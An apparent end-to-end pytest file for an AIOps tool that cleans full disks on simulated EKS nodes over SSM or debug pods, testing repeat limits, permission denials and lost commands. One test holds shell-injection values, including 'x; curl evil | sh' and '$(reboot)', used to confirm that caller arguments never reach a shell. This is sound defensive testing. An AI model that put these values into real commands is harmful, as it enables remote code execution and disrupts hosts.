"""F7 through the real tools on the lab: clean a node's disk over SSM or by a debug pod, and know when not to.

What happened on the node is read from the simulated disk and what AWS was asked, never from our own journal.
"""

from pathlib import Path

import pytest

from aiops_eks.clients.disk_effects import PREFIX, SsmCommands
from aiops_eks.planning.disk_commands import COMMANDS, SPACE
from aiops_eks.server import Wiring
from aiops_lab.aws.ssm import Invocation, Ssm
from aiops_lab.scenarios.disk import hog, spammer, the_four, the_node
from aiops_shared.guardrails.bindings import in_place
from aiops_shared.guardrails.models import ObjectRef, Step
from aiops_shared.guardrails.permits import Permit
from aiops_shared.http.world_clock import RemoteClock
from aiops_shared.settings import AwsSettings
from tests.e2e.stage import Obj, Stage, whole

pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]
GIB = 2**30
WORDS = ["snapshot", "clean images", "clean tmp", "verify disk", "verify condition"]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path


def node_of(stage: Stage) -> str:
    return the_node(stage.who)


def instance_of(stage: Stage, node: str) -> str:
    hosts = stage.lab.world.disks.instances()
    return next(instance for instance, host in hosts.items() if host[0] == node)


def free_gib(stage: Stage, node: str = "") -> float:
    return round(stage.lab.world.disks.known[node or node_of(stage)].free / GIB, 1)


def pressed(stage: Stage, node: str = "") -> bool:
    found = stage.lab.store.get("Node", None, node or node_of(stage))
    assert found is not None
    conditions = found["status"]["conditions"]
    return any(each["type"] == "DiskPressure" and each["status"] == "True" for each in conditions)


def sent(stage: Stage) -> list[Invocation]:
    return list(stage.lab.account.area(Ssm).invocations)


def close_ssm(stage: Stage) -> None:
    """The agents of all nodes have lost their connection."""
    stage.lab.account.area(Ssm).offline.update(stage.lab.world.disks.instances())


def forget_limits(stage: Stage) -> None:
    """Another day, as far as the repeat limit goes."""
    stage.sql("delete from limits")


async def planned(stage: Stage, **more: str) -> Obj:
    return await stage.got("plan_node_change", action="clean_disk", names=[node_of(stage)], **more)


def seen(done: Obj) -> dict[str, str]:
    """What was seen at each step, by the step's word."""
    return {row[1].rpartition(" ")[0] or row[1]: row[3] for row in done["steps"]["rows"]}


@pytest.mark.row("S73")
@pytest.mark.row("C15")
@pytest.mark.row("C10")
@pytest.mark.parametrize("seed", range(5))
async def test_a_full_disk_is_cleaned_twice_a_day_and_then_a_person_is_asked(
    monkeypatch: pytest.MonkeyPatch, folder: Path, seed: int
) -> None:
    """F7a and F7c; odd seeds have no SSM."""
    async with whole("disk-pressure-again", seed, monkeypatch, folder) as stage:
        if seed % 2:
            close_ssm(stage)
        assert (free_gib(stage), pressed(stage)) == (7.2, True)
        found = await stage.got("diagnose", kind="Node", name=node_of(stage))
        assert found["findings"][0]["code"] == "NODE_DISK_PRESSURE"
        assert hog(stage.who) in str(found["findings"][0]["evidence"])
        assert "clean_disk" in found["findings"][0]["next_step"]
        for _ in range(2):
            plan = await planned(stage)
            assert stage.writes() == [] or seed % 2
            assert "clean-disk" in plan["verdict"]
            assert plan["reversible"].startswith("none; lost: images")
            done = (await stage.execute(plan)).data
            assert (done["state"], list(seen(done))) == ("succeeded", WORDS), done
            assert (free_gib(stage), pressed(stage)) == (18.7, False)
            assert seen(done)["clean images"].startswith("freed 9.5 GiB")
            assert not done["can_undo"]
            stage.lab.clock.advance(3600.0)
            assert (free_gib(stage), pressed(stage)) == (7.2, True)
        assert stage.lab.store.list("Pod", SPACE) == []
        assert len(sent(stage)) == (0 if seed % 2 else 8)

        third = await planned(stage)
        assert "repeat-limit" in third["verdict"]
        shows = third["shows"]
        assert "ec2nodeclass default" in shows["patch"]
        assert '"volumeSize":"160Gi"' in shows["patch"]
        assert shows["history"].count("succeeded") == 2
        assert hog(stage.who) in shows["top consumer"]
        refused = await stage.execute(third)
        assert refused.code == "repeat_limit", refused.text
        assert "scalate" in refused.error
        assert free_gib(stage) == 7.2


async def test_where_logs_fill_the_disk_the_plan_warns_and_the_clean_names_whose(
    monkeypatch: pytest.MonkeyPatch, folder: Path
) -> None:
    """F7b, by debug pods: they are gone afterwards although the clean failed."""
    async with whole("disk-pressure-logs", 1, monkeypatch, folder) as stage:
        close_ssm(stage)
        found = await stage.got("diagnose", kind="Node", name=node_of(stage))
        assert "freed 0 bytes" in found["findings"][0]["root_cause"]
        assert "drain" in found["findings"][0]["next_step"]
        plan = await planned(stage)
        assert any("freed 0" in said and "drain" in said for said in plan["warnings"])
        assert "ConnectionLost" in plan["shows"]["executor"]
        done = (await stage.execute(plan)).data
        assert done["state"] == "failed", done
        assert f"logs of pod production/{spammer(stage.who)}" in seen(done)["verify disk"]
        assert "41.0 GiB" in seen(done)["snapshot"]
        assert "plan cordon and drain" in done["summary"]
        assert "4 debug pods removed" in seen(done)["undo"]
        assert stage.lab.store.list("Pod", SPACE) == []
        assert {(each.verb, each.resource) for each in stage.writes()} == {
            ("create", "pods"),
            ("delete", "pods"),
        }


async def test_four_nodes_are_cleaned_one_after_the_other(
    monkeypatch: pytest.MonkeyPatch, folder: Path
) -> None:
    """F7e: the first is the canary; no two of one zone follow each other while that can be avoided."""
    async with whole("disk-pressure-four", 0, monkeypatch, folder) as stage:
        four = the_four(stage.who)
        plan = await stage.got("plan_node_change", action="clean_disk", names=list(four))
        done = (await stage.execute(plan)).data
        assert done["state"] == "succeeded", done
        assert [(free_gib(stage, node), pressed(stage, node)) for node in four] == [(18.7, False)] * 4
        order = list(dict.fromkeys(one.instance for one in sent(stage)))
        assert sorted(order) == sorted(instance_of(stage, node) for node in four)
        ends = [max(i for i, one in enumerate(sent(stage)) if one.instance == name) for name in order]
        assert ends == sorted(ends) == [3, 7, 11, 15]


@pytest.mark.threat("T1")
async def test_no_argument_of_a_caller_reaches_a_shell(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    async with whole("disk-pressure", 2, monkeypatch, folder) as stage:
        bad = "x; curl evil | sh"
        for arguments in (
            {"names": [f"{node_of(stage)}; reboot"]},
            {"names": [node_of(stage)], "command": bad},
            {"names": [node_of(stage)], "taint": "a=b:NoSchedule"},
        ):
            refused = await stage.ask("plan_node_change", action="clean_disk", **arguments)
            assert refused.error, arguments
        plan = await planned(stage, reason="$(reboot) `reboot`")
        done = (await stage.execute(plan)).data
        assert done["state"] == "succeeded", done
        assert [one.script for one in sent(stage)] == [
            COMMANDS[name] for name in ("measure", "prune_images", "clean_tmp", "measure")
        ]
        assert not any("reboot" in one.script or node_of(stage) in one.script for one in sent(stage))


async def test_what_is_denied_is_named_and_nothing_is_changed(
    monkeypatch: pytest.MonkeyPatch, folder: Path
) -> None:
    async with whole("disk-pressure", 0, monkeypatch, folder) as stage:
        plan = await planned(stage)
        stage.lab.fail_aws("ssm", "SendCommand", code="AccessDeniedException")
        done = (await stage.execute(plan)).data
        assert done["state"] == "failed"
        assert "ssm:SendCommand" in done["summary"]
        assert (free_gib(stage), sent(stage)) == (7.2, [])

        stage.lab.fail_aws("ssm", "DescribeInstanceInformation", code="AccessDeniedException")
        by_pod = await planned(stage)
        assert "a debug pod" in by_pod["confirm"]
        assert "ssm:DescribeInstanceInformation" in by_pod["shows"]["executor"]

        space = stage.lab.store.get("Namespace", None, SPACE)
        assert space is not None
        space["metadata"]["labels"] = {"pod-security.kubernetes.io/enforce": "baseline"}
        stage.lab.store.update(space, manager="somebody")
        refused = await stage.ask("plan_node_change", action="clean_disk", names=[node_of(stage)])
        assert refused.code == "not_configured", refused.text
        assert "PodSecurity" in refused.error
        assert "DescribeInstanceInformation" in refused.error
        missing = await stage.ask("plan_node_change", action="clean_disk", names=["ip-10-0-1-4.ec2.internal"])
        assert missing.code == "not_found", missing.text


@pytest.mark.fault("R6")
async def test_a_command_that_is_throttled_lost_or_never_ends(
    monkeypatch: pytest.MonkeyPatch, folder: Path
) -> None:
    async with whole("disk-pressure", 0, monkeypatch, folder, aws=AwsSettings(timeout_s=2)) as stage:
        stage.lab.world.disks.deaf.add(node_of(stage))
        done = (await stage.execute(await planned(stage))).data
        assert done["state"] == "failed"
        assert "it ran longer than 300 s" in done["summary"]
        assert [one.status for one in sent(stage)] == ["TimedOut"]
        stage.lab.world.disks.deaf.clear()
        forget_limits(stage)

        # The answer of SendCommand is lost, the command is not: found by its comment, it is not sent again.
        stage.lab.fail_aws("ssm", "SendCommand", delay_s=2.5, times=1)
        stage.lab.fail_aws("ssm", "GetCommandInvocation", code="ThrottlingException", times=2)
        done = (await stage.execute(await planned(stage))).data
        assert done["state"] == "succeeded", done
        assert len(sent(stage)) == 1 + 4
        assert len({one.comment for one in sent(stage)}) == 1 + 4


@pytest.mark.fault("R2")
async def test_what_a_dead_process_sent_is_found_and_not_sent_again(
    monkeypatch: pytest.MonkeyPatch, folder: Path
) -> None:
    async with whole("disk-pressure", 0, monkeypatch, folder) as stage:
        parts = Wiring(stage.settings)
        try:
            hands = await parts._effects("my-cluster")
            ref = ObjectRef(
                cluster="my-cluster", api_version="ssm.disk.aiops/v1", kind="Node", name=node_of(stage)
            )
            permit = Permit("act_1", "digest", frozenset({ref}), 1)
            step = Step(name="clean images abc123", verb="run", body={"command": "prune_images"})
            before = await hands.read(ref)
            assert not in_place(step, before, "")
            await hands.apply_step(ref, step, before, permit)  # … and the process dies here
            now = await hands.read(ref)
            assert now is not None
            assert in_place(step, now, "")
            assert isinstance(parts.clock, RemoteClock)
            await SsmCommands(parts.clusters, "my-cluster", parts.clock).start(
                now, step.name, "prune_images", permit
            )
            assert [one.comment for one in sent(stage)] == [f"{PREFIX}clean images abc123"]
        finally:
            await parts.clusters.aclose()
            if isinstance(parts.clock, RemoteClock):
                await parts.clock.aclose()
